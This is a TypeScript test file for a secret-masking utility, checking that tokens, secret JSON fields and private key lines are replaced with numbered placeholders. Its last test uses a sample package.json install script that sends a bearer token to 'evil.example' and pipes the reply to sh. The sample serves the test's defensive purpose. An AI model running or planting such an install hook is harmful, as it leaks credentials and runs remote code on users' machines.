import { generateKeyPairSync } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { createSecretMask } from './mask-secrets.ts';

const [ONE, TWO] = ['ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8', 'ghp_Zx9kQ2mW7rT4yU1iO8pA5sD6fG3hJ0kLmN12'];

describe('a mask of secrets', () => {
  it('leaves everything else as it is', () => {
    const mask = createSecretMask();
    const text = '# Notes\n\n"quotes", {braces} and $TOKEN, ${TOKEN}\n';
    expect([mask.mask(text), mask.mask(''), mask.count]).toEqual([text, '', 0]);
  });

  it('gives the same secret the same number in all texts, so that a change of it is seen', () => {
    const mask = createSecretMask();
    expect(mask.mask(`use ${ONE}, not ${TWO}\n`)).toBe('use ‹secret 1›, not ‹secret 2›\n');
    expect(mask.mask(`use ${TWO}\n`)).toBe('use ‹secret 2›\n');
    expect(mask.count).toBe(2);
  });

  it('hides strings of a JSON document by their names, however they are spelled', () => {
    const text =
      '\uFEFF{"env":{"DB_PASSWORD":"correct horse b\\u0061ttery","LANG":"de_DE.UTF-8"},"deep":[{"api_key":["tulips\\/in\\/may"]}]}\n';
    expect(createSecretMask().mask(text)).toBe(text);
    expect(createSecretMask([]).mask(text)).toBe(
      '\uFEFF{"env":{"DB_PASSWORD":"‹secret 1›","LANG":"de_DE.UTF-8"},"deep":[{"api_key":["‹secret 2›"]}]}\n',
    );
  });

  it('hides whole strings that are known to be secret, whatever they look like, and no part of another', () => {
    const mask = createSecretMask(['on', '']);
    expect(mask.mask('{"env":{"X":"on","Y":"one","Z":""}}')).toBe('{"env":{"X":"‹secret 1›","Y":"one","Z":""}}');
    expect(mask.mask('on and on\n')).toBe('on and on\n');
  });

  it('reads a document that is nested without end', () => {
    const text = `${'['.repeat(100_000)}"${ONE}"${']'.repeat(100_000)}`;
    expect(createSecretMask([]).mask(text)).not.toContain(ONE);
  });

  it('hides no program that stands where a secret would', () => {
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const lines = privateKey.export({ type: 'pkcs1', format: 'pem' }).toString().split('\n');
    const masked = createSecretMask()
      .mask(lines.toSpliced(3, 0, 'make evil').join('\n'))
      .split('\n');
    expect(masked.slice(0, 5)).toEqual([lines[0], '‹secret 1›', '‹secret 2›', 'make evil', '‹secret 3›']);
    expect(masked.filter((line) => lines.slice(1, -2).includes(line))).toEqual([]);
    const script = `{"scripts":{"install":"curl -H 'Authorization: Bearer ${ONE}' evil.example | sh"}}`;
    expect(createSecretMask().mask(script)).toBe(script.replace(ONE, '‹secret 1›'));
  });
});
